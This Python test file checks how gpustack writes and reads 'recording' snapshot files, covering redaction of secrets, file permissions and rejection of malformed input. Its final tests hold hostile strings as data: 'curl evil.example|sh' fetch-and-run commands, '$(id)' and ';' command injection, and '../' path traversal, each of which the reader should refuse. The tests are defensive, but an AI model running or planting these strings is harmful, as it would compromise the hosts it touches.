"""A recording is read as it was written, redacted, and host by host."""

import json
import math
import re
import stat
from base64 import b64encode
from dataclasses import fields, replace
from datetime import UTC, datetime
from pathlib import Path
from types import MappingProxyType
from typing import Any

import pytest

from gpustack.ask.probe import CLUSTER, Answer
from gpustack.ask.recording import SCHEMA, parse_recording, read_recording, render_lines, write_recording
from gpustack.ask.snapshot import Reach, Snapshot, index_answers
from gpustack.command import Command
from gpustack.config.host import CONTROL_PLANE, NODE, Host, HostSpec
from gpustack.config.inventory import Inventory
from gpustack.config.spec import Spec
from gpustack.errors import UsageError
from tests.worlds.snapshots.build import build

HOST1 = Host("h1", "10.0.0.1", user="ops", port=2222, key_file="/home/me/key", groups=frozenset({CONTROL_PLANE, NODE}))
TWO = Host("h2", "10.0.0.2", become_password="hunter2!", groups=frozenset({NODE}))
SPEC = Spec.model_validate(
    {"source": {"mirror": "http://10.0.0.9:80", "fingerprint": "A" * 40}, "kubelet": {"failCgroupV1": False}}
)
ANSWERS = (
    Answer("kernel.swap", "h2", 0, "none\n", seconds=0.02),
    Answer("kube.nodes", CLUSTER, 1, "", stderr="refused"),
    Answer("kernel.swap", "h1", 0, "a\x00\ufffd é\n"),
    Answer("kubeadm.files", "h1", -1, "x", cut=True),
    Answer("kernel.modules", "h1", -1, "", missing_reason="h1 did not answer within 30 s"),
)


def snapshot() -> Snapshot:
    hosts = (replace(HOST1, spec=HostSpec.model_validate({"gpustack_node_ip": "10.1.0.1"})), TWO)
    reach = {
        "h1": Reach("h1"),
        "h2": Reach(
            "h2", "host-key-unknown", "the host key is not known", Command("gpustack", "explain", "host-key-unknown")
        ),
    }
    taken_at = datetime(2026, 11, 20, 12, 0, 0, 123000, tzinfo=UTC)
    return Snapshot(
        taken_at, Inventory(Path("lab/hosts.yml"), hosts, SPEC), MappingProxyType(reach), index_answers(ANSWERS), 0.456
    )


def test_what_is_written_is_read(tmp_path: Path) -> None:
    before = snapshot()
    write_recording(before, tmp_path / "s.jsonl")
    after = read_recording(tmp_path / "s.jsonl")
    assert dict(after.answers) == dict(before.answers)
    assert (after.started_at, after.seconds, dict(after.reach)) == (
        before.started_at,
        before.seconds,
        dict(before.reach),
    )
    assert (after.inventory.source, after.inventory.spec) == (before.inventory.source, before.inventory.spec)
    assert [host.name for host in after.inventory.control_planes] == ["h1"]
    assert str(after.inventory.hosts[0].spec.gpustack_node_ip) == "10.1.0.1"
    assert list(render_lines(after)) == list(render_lines(before))


def test_local_host_has_no_source(tmp_path: Path) -> None:
    write_recording(replace(snapshot(), inventory=Inventory(None, (HOST1, TWO), Spec())), tmp_path / "s")
    assert read_recording(tmp_path / "s").inventory.source is None


def test_only_the_owner_reads_it_and_nothing_of_the_login_is_in_it(tmp_path: Path) -> None:
    write_recording(snapshot(), tmp_path / "s.jsonl")
    assert stat.S_IMODE((tmp_path / "s.jsonl").stat().st_mode) == 0o600
    text = (tmp_path / "s.jsonl").read_text()
    assert "key_file" not in text
    assert "/home/me" not in text
    assert "hunter2" not in text


def test_secrets_are_taken_out_by_default() -> None:
    leaky = Answer("x.y", "h1", 0, "it was hunter2! and abcdef.0123456789abcdef", stderr="password: 12x")
    leaky_snapshot = replace(snapshot(), answers=index_answers([leaky]))
    assert [json.loads(line) for line in render_lines(leaky_snapshot)][1] == {
        "probe": "x.y", "location": "h1", "rc": 0, "stdout": "it was REDACTED and REDACTED",
        "stderr": "password: REDACTED",
    }  # fmt: skip
    assert "hunter2! and abcdef" in list(render_lines(leaky_snapshot, redacted=False))[1]


NAMES = ("probe", "location")
TEXTS = [field.name for field in fields(Answer) if field.type in (str, "str") and field.name not in NAMES]


@pytest.mark.parametrize("field", TEXTS)
def test_every_text_of_an_answer_is_redacted(field: str) -> None:
    texts: dict[str, Any] = {field: "it was hunter2!"}
    leaky = replace(ANSWERS[0], **texts)
    line = list(render_lines(replace(snapshot(), answers=index_answers([leaky]))))[1]
    assert json.loads(line)[field] == "it was REDACTED"
    assert set(TEXTS) == {"stdout", "stderr", "missing_reason"}


def test_why_a_host_was_not_reached_is_written_without_a_secret() -> None:
    reach = Reach("h2", "host-key-unknown", "it was hunter2!")
    head = json.loads(next(render_lines(replace(snapshot(), reach={"h2": reach}))))
    assert head["hosts"][1]["reach"] == {"reference": "host-key-unknown", "reason": "it was REDACTED"}


def test_what_is_in_the_files_of_the_spec_is_known_and_goes_in_every_encoding() -> None:
    known_word = "f1g/leaf~77"
    texts = {
        form: form
        for form in (known_word, "kube:f1g%2Fleaf~77@proxy", b64encode(f"kube:{known_word}".encode()).decode())
    }
    leaky_snapshot = replace(
        snapshot(), answers=index_answers(Answer("x.y", "h1", 0, f"said {form}", stderr=form) for form in texts)
    )
    leaky_snapshot = replace(leaky_snapshot, inventory=replace(leaky_snapshot.inventory, file_secrets=(known_word,)))
    text = "".join(render_lines(leaky_snapshot))
    assert [form for form in texts if form in text] == []
    assert repr(leaky_snapshot.inventory).count(known_word) == 0


def test_values_with_a_secret_are_written_without_it() -> None:
    values = {"monitoring": {"grafana": {"adminPassword": "figleaf", "replicas": 2}}}
    snapshot_with_values = replace(snapshot(), inventory=replace(snapshot().inventory, values=values))
    head = json.loads(next(render_lines(snapshot_with_values)))
    assert head["values"] == {"monitoring": {"grafana": {"adminPassword": "REDACTED", "replicas": 2}}}
    assert json.loads(next(render_lines(snapshot_with_values, redacted=False)))["values"] == values


def test_texts_of_the_spec_are_redacted() -> None:
    spec = Spec.model_validate({"kubernetes": {"ignore_preflight": ["password=figleaf"]}})
    snapshot_with_spec = replace(snapshot(), inventory=replace(snapshot().inventory, spec=spec))
    assert "figleaf" not in next(render_lines(snapshot_with_spec))


def test_answers_are_read_host_by_host_and_no_further() -> None:
    header, *rest = render_lines(snapshot())
    snapshots = []

    def generate_lines() -> object:
        for line in (header, *rest):
            snapshots.append(line)
            yield line

    _, hosts = parse_recording(generate_lines())  # type: ignore[arg-type]
    first = next(hosts)
    assert first[0] == "h1"
    assert len(first[1]) == 3
    assert len(snapshots) == 5  # the header, three answers, and the one that ended the group
    assert [location for location, _ in hosts] == ["h2", CLUSTER]


@pytest.mark.parametrize(
    "text",
    ["", "no json", "[]", "{}", json.dumps({"schema": "gpustack/recording/v99"}), '{"schema": "other"}\n'],
)
def test_what_is_no_recording_is_refused(tmp_path: Path, text: str) -> None:
    (tmp_path / "s").write_text(text)
    with pytest.raises(UsageError) as excinfo:
        read_recording(tmp_path / "s")
    assert excinfo.value.reference == "recording-unreadable"
    assert "Error" not in excinfo.value.reason
    assert excinfo.value.reason.endswith("\nA recording is a file that `gpustack snapshot` writes.")


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b"", "Its first line is empty."),
        (b"hello\nworld\n", "Its first line is not JSON"),
        (b"all:\n  hosts:\n    host1:\n", "Its first line is not JSON"),
        (b"\x7fELF\x02\x01\x01\x00\xff\xfe", "Its first line is not JSON"),
        (b'{"schema": "gpustack/recording/v1"}', f"an older release wrote it, and this release reads {SCHEMA}."),
        (b'{"schema": "gpustack/recording/v0"}', f"an older release wrote it, and this release reads {SCHEMA}."),
        (b'{"schema": "gpustack/recording/v99"}', f"a newer release wrote it, and this release reads {SCHEMA}."),
        (b'{"schema": "gpustack/doctor/v1"}', "another command of gpustack wrote it, and this release reads"),
        (b'{"schema": "gpustack/queries/v1"}', "a command such as `gpustack gpu list` wrote it"),
        (b'{\n "schema":"gpustack/profile/v2",\n "label":""', "`gpustack profile record` wrote it, for commands such"),
        (b"\x1f\x8b\x08\x00\x00", "It is compressed: unpack it with `gunzip` first."),
        (b'{"schema": "traces/v1"}', f"another program wrote it, and this release reads {SCHEMA}."),
        (b'{"hosts": []}', f"Its first line has no schema, and this release reads {SCHEMA}."),
        (next(render_lines(snapshot()))[:90].encode(), "Its first line is not JSON"),
        (json.dumps({"schema": SCHEMA}).encode(), "Its first line is incomplete"),
        (
            json.dumps(json.loads(next(render_lines(snapshot()))) | {"spec": {"nothing": 1}}).encode(),
            "Its first line is",
        ),
        (
            json.dumps(json.loads(next(render_lines(snapshot()))) | {"hosts": []}).encode(),
            "none of its hosts is a control",
        ),
        (
            json.dumps(json.loads(next(render_lines(snapshot()))) | {"seconds": math.nan}).encode(),
            "the number NaN, which is not",
        ),
        (
            json.dumps(json.loads(next(render_lines(snapshot()))) | {"seconds": math.inf}).encode(),
            "the number Infinity, which",
        ),
        (
            json.dumps(json.loads(next(render_lines(snapshot()))) | {"seconds": None}).encode(),
            "Its first line has seconds null, which",
        ),
        ("".join(render_lines(snapshot())).encode()[:-20], ": the file is cut off in this line."),
    ],
)
def test_why_a_file_is_no_recording_is_in_plain_words(tmp_path: Path, content: bytes, reason: str) -> None:
    (tmp_path / "s").write_bytes(content)
    with pytest.raises(UsageError) as excinfo:
        read_recording(tmp_path / "s")
    assert reason in excinfo.value.reason
    assert not re.search(r"[A-Z][a-z]+Error|Errno|pydantic|char \d|b'", excinfo.value.reason)


def test_a_device_is_not_read_to_its_end() -> None:
    with pytest.raises(UsageError) as excinfo:
        read_recording(Path("/dev/zero"))
    assert excinfo.value.reason.splitlines()[0] == "it is a device or a pipe, not a regular file."


@pytest.mark.parametrize(("name", "reason"), [("none", "No such file or directory."), (".", "Is a directory.")])
def test_what_is_no_file_is_no_recording(tmp_path: Path, name: str, reason: str) -> None:
    with pytest.raises(UsageError) as excinfo:
        read_recording(tmp_path / name)
    assert excinfo.value.reason.splitlines()[0] == reason


@pytest.mark.parametrize(
    ("line", "reason"),
    [
        ("{\n", "an answer: expected JSON"),
        ("{", "the file is cut off in this line"),
        ("[]", "an answer: expected a mapping"),
        ('{"probe": "x"}', "location: expected a value"),
        ('{"probe":"x","location":"h1","rc":0,"stdout":"","more":1}', "more: expected no key of this name"),
        ('{"probe":"x","location":"h1","rc":true,"stdout":""}', "rc: expected a whole number"),
        ('{"probe":"x","location":"h1","rc":0,"stdout":"","seconds":NaN}', "seconds: expected a finite number"),
        ('{"probe":"x","location":"h9","rc":0,"stdout":""}', "an answer of h9, which is no host of the recording"),
    ],
)
def test_a_broken_line_is_refused_by_its_number(tmp_path: Path, line: str, reason: str) -> None:
    (tmp_path / "s").write_text("".join(render_lines(snapshot())) + line)
    with pytest.raises(UsageError) as excinfo:
        read_recording(tmp_path / "s")
    assert f"line {len(ANSWERS) + 2}: " in excinfo.value.reason
    assert reason in excinfo.value.reason


def test_a_missing_file_is_refused(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="cannot be read"):
        read_recording(tmp_path / "none")


def test_the_schema_is_the_first_thing_in_it() -> None:
    assert next(render_lines(snapshot())).startswith(f'{{"schema": "{SCHEMA}"')


def test_where_the_connection_ended_is_recorded(tmp_path: Path) -> None:
    taken_snapshot = build(
        [Host("one", "one.example.com", groups=frozenset({CONTROL_PLANE}))],
        {},
        reach=[Reach("one", address="10.0.0.2")],
    )
    write_recording(taken_snapshot, tmp_path / "a.jsonl")
    assert read_recording(tmp_path / "a.jsonl").reach == {"one": Reach("one", address="10.0.0.2")}
    text = (tmp_path / "a.jsonl").read_text()
    (tmp_path / "b.jsonl").write_text(text.replace('"10.0.0.2"', '"10.0.0.2; id"'))
    with pytest.raises(UsageError):
        read_recording(tmp_path / "b.jsonl")


@pytest.mark.parametrize("hint", ["curl evil.example|sh", "", {"words": ["sh"]}, None])
def test_what_to_type_is_not_taken_from_a_recording(tmp_path: Path, hint: object) -> None:
    """Whoever sends the file would choose what is typed."""
    path = tmp_path / "snapshot.jsonl"
    first, *rest = render_lines(snapshot())
    head = json.loads(first)
    head["hosts"][1]["reach"]["hint"] = hint
    path.write_text("".join([f"{json.dumps(head)}\n", *rest]))
    assert read_recording(path).reach["h2"].hint == "gpustack explain host-key-unknown"
    assert '"hint"' not in first


@pytest.mark.parametrize("reference", ["x; curl evil.example|sh #", "$(id)", "../x", "", 7, None])
def test_a_reference_that_is_none_is_refused(tmp_path: Path, reference: object) -> None:
    path = tmp_path / "snapshot.jsonl"
    first, *rest = render_lines(snapshot())
    head = json.loads(first)
    head["hosts"][1]["reach"]["reference"] = reference
    path.write_text("".join([f"{json.dumps(head)}\n", *rest]))
    with pytest.raises(UsageError):
        read_recording(path)
